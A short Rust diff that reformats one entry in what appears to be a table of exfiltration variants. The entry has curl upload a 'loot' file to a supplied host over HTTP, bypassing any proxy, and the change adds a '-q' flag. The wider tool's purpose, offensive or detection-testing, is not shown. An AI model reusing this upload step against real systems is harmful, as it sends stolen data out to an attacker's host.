@@ -93,7 +93,18 @@ const VARIANTS: &[Variant] = &[
         |_stage, to, loot| {
             Act::tool(
                 "curl",
-                ["-s", "-S", "-m", "5", "--noproxy", "*", "--upload-file", &loot, &format!("http://{to}/")],
+                [
+                    "-q",
+                    "-s",
+                    "-S",
+                    "-m",
+                    "5",
+                    "--noproxy",
+                    "*",
+                    "--upload-file",
+                    &loot,
+                    &format!("http://{to}/"),
+                ],
             )?
         }
     ),
